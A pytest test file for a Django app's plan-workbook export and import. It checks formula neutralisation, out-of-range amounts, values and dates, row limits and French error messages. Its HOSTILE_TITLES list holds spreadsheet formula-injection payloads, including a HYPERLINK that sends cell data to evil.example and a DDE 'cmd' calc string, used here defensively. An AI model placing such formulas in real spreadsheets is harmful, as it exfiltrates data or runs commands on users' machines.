"""The plan workbook against hostile and extreme input (issue 11, points 3 to 5).

Titles that look like formulas leave as text and come back as they were; amounts, values and
dates beyond their range, and workbooks beyond the row limit, are refused with a French error
naming the sheet, row and column, and nothing is written.
"""

import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from actions import spreadsheet
from actions.models import FicheAction, Financement, Indicateur, Mesure
from core.limits import IMPORT_MAX_ROWS
from tests.factories import AxeFactory, FicheActionFactory, OrganisationFactory, UserFactory

pytestmark = pytest.mark.django_db

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?d="&A2,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+33 3 26 00 00 00 : permanence",
    "-2+3",
    "'=déjà précédé d’une apostrophe",
]


@pytest.fixture
def axe():
    return AxeFactory(numero=1, cls__in_force=True)


@pytest.fixture
def cls(axe):
    return axe.cls


@pytest.fixture
def funder():
    return OrganisationFactory(nom="ARS Grand Est")


def _book(data: bytes):
    return load_workbook(io.BytesIO(data))


def _save(book) -> io.BytesIO:
    out = io.BytesIO()
    book.save(out)
    out.seek(0)
    return out


def _written():
    return (
        FicheAction.history.count(),
        Financement.history.count(),
        Indicateur.history.count(),
        Mesure.history.count(),
    )


def test_titles_like_formulas_come_back_identical_after_export_and_import(cls, axe):
    fiches = [FicheActionFactory(axe=axe, rang=rang, titre=t) for rang, t in enumerate(HOSTILE_TITLES, start=1)]
    exported = spreadsheet.export_workbook(cls)
    sheet = _book(exported)["Actions"]
    titles = [row[2].value for row in sheet.iter_rows(min_row=2)]
    assert titles[0] == "'" + HOSTILE_TITLES[0] and all(row[2].data_type == "s" for row in sheet.iter_rows())

    assert spreadsheet.import_workbook(cls, io.BytesIO(exported)).summary().startswith("Aucun changement")
    FicheAction.objects.filter(cls=cls).update(titre="Titre changé entre-temps")
    result = spreadsheet.import_workbook(cls, io.BytesIO(exported))
    assert result.errors == [] and len(result.updated) == len(HOSTILE_TITLES)
    assert [FicheAction.objects.get(pk=f.pk).titre for f in fiches] == HOSTILE_TITLES


def _funding_book(cls, axe, funder, amount):
    FicheActionFactory(axe=axe, rang=1)
    book = _book(spreadsheet.export_workbook(cls))
    book["Financements"].append(["1.1", funder.nom, 2025, amount, "Fonctionnement", "Sollicité"])
    return _save(book)


@pytest.mark.parametrize(
    "amount",
    ["1e30", 1e308, "1e40", "inf", "nan", float("inf"), "12,345", "-3", "10 000 000 000", "beaucoup", True],
)
def test_an_amount_out_of_range_is_a_french_error_on_its_cell_and_nothing_is_written(cls, axe, funder, amount):
    upload = _funding_book(cls, axe, funder, amount)
    before = _written()
    result = spreadsheet.import_workbook(cls, upload)
    assert len(result.errors) == 1
    assert result.errors[0].startswith("Feuille « Financements », ligne 2, colonne D (« Montant (€) ») : ")
    assert _written() == before


@pytest.mark.parametrize(
    ("amount", "stored"),
    [("1 000,50 €", "1000.50"), ("1\u202f000,50\u00a0€", "1000.50"), (94188.23, "94188.23"), ("9999999999,99", None)],
)
def test_french_amounts_up_to_the_limit_are_read_to_the_cent(cls, axe, funder, amount, stored):
    result = spreadsheet.import_workbook(cls, _funding_book(cls, axe, funder, amount))
    assert result.errors == []
    assert Financement.objects.get().montant == Decimal(stored or "9999999999.99")


@pytest.mark.parametrize("value", ["1e30", 1e308, "inf", "nan", -1e12, "1,234"])
@pytest.mark.parametrize("header", ["Valeur initiale", "Cible", "Valeur", "Numérateur", "Dénominateur"])
def test_an_indicator_value_out_of_range_names_its_column(cls, axe, value, header):
    FicheActionFactory(axe=axe, rang=1)
    book = _book(spreadsheet.export_workbook(cls))
    row = {h: None for h in spreadsheet.INDICATOR_COLUMNS} | {
        "Numéro de l'action": "1.1",
        "Indicateur": "Personnes accompagnées",
        "Année": 2025,
        "Valeur": 10,
        header: value,
    }
    book["Indicateurs — mesures"].append([row[h] for h in spreadsheet.INDICATOR_COLUMNS])
    before = _written()
    result = spreadsheet.import_workbook(cls, _save(book))
    letter = "FGKLM"[["Valeur initiale", "Cible", "Valeur", "Numérateur", "Dénominateur"].index(header)]
    where = f"Feuille « Indicateurs — mesures », ligne 2, colonne {letter} (« {header} »)"
    assert any(e.startswith(where) for e in result.errors)
    assert _written() == before


def test_negative_indicator_values_are_imported(cls, axe):
    FicheActionFactory(axe=axe, rang=1)
    book = _book(spreadsheet.export_workbook(cls))
    row = {h: None for h in spreadsheet.INDICATOR_COLUMNS} | {
        "Numéro de l'action": "1.1",
        "Indicateur": "Solde migratoire",
        "Valeur initiale": -120.5,
        "Année": 2025,
        "Valeur": "-3,25",
    }
    book["Indicateurs — mesures"].append([row[h] for h in spreadsheet.INDICATOR_COLUMNS])
    assert spreadsheet.import_workbook(cls, _save(book)).errors == []
    assert Mesure.objects.get().valeur == Decimal("-3.25")
    assert Indicateur.objects.get().valeur_initiale == Decimal("-120.50")


@pytest.mark.parametrize(
    "day", ["31/12/9999", "01/01/0001", "1899-12-31", datetime.date(2101, 1, 1), datetime.datetime(9999, 12, 31)]
)
def test_a_date_outside_1900_2100_is_refused_with_its_cell(cls, axe, day):
    book = _book(spreadsheet.export_workbook(cls))
    book["Actions"].append(["1.1", None, "Action datée"] + [None] * 11 + [day])
    before = _written()
    result = spreadsheet.import_workbook(cls, _save(book))
    assert len(result.errors) == 1
    message = result.errors[0]
    assert message.startswith("Feuille « Actions », ligne 2, colonne O (« Début prévu ») : ")
    assert "hors de la période acceptée (du 01/01/1900 au 31/12/2100)" in message
    assert _written() == before


def test_a_workbook_over_the_row_limit_is_refused_before_anything_is_written(cls, axe):
    book = _book(spreadsheet.export_workbook(cls))
    for rang in range(1, IMPORT_MAX_ROWS + 2):
        book["Actions"].append([f"1.{rang}", None, f"Action {rang}"])
    before = _written()
    result = spreadsheet.import_workbook(cls, _save(book))
    assert result.errors == [
        f"Feuille « Actions » : plus de {IMPORT_MAX_ROWS} lignes de données. "
        f"Importez au plus {IMPORT_MAX_ROWS} lignes par feuille ; rien n’a été enregistré."
    ]
    assert _written() == before and not FicheAction.objects.exists()


@pytest.mark.parametrize(("funding_lines", "refused"), [(3, False), (4, True)])
def test_the_row_limit_counts_the_data_rows_of_each_sheet(cls, axe, funder, monkeypatch, funding_lines, refused):
    monkeypatch.setattr(spreadsheet, "IMPORT_MAX_ROWS", 3)
    book = _book(spreadsheet.export_workbook(cls))
    for rang in (1, 2, 3):
        book["Actions"].append([f"1.{rang}", None, f"Action {rang}"])
        book["Actions"].append([None])  # empty rows do not count
    for year in range(2024, 2024 + funding_lines):
        book["Financements"].append(["1.1", funder.nom, year, 100, "Fonctionnement", "Sollicité"])
    result = spreadsheet.import_workbook(cls, _save(book))
    if refused:
        assert [e.split(" : ")[0] for e in result.errors] == ["Feuille « Financements »"]
        assert not FicheAction.objects.exists()
    else:
        assert result.errors == []
        assert FicheAction.objects.count() == 3 and Financement.objects.count() == 3


def test_the_import_page_answers_an_extreme_file_with_a_french_error_not_a_500(client, cls, axe, funder):
    client.force_login(UserFactory(ars=True, departement=cls.departement))
    upload = _funding_book(cls, axe, funder, 1e308)
    upload.name = "plan.xlsx"
    response = client.post(reverse("actions_import", args=[cls.pk]), {"fichier": upload})
    assert response.status_code == 200
    assert "Import refusé" in response.content.decode()
    assert not Financement.objects.exists()


def test_a_fiche_number_beyond_what_the_database_holds_is_refused(cls, axe):
    book = _book(spreadsheet.export_workbook(cls))
    book["Actions"].append(["1.99999999999", None, "Rang démesuré"])
    result = spreadsheet.import_workbook(cls, _save(book))
    assert result.errors == [
        "Feuille « Actions », ligne 2, colonne A (« Numéro ») : "
        "rang «\u202f9999999999\u202f» trop grand (32767 au plus)."
    ]
    assert not FicheAction.objects.exists()
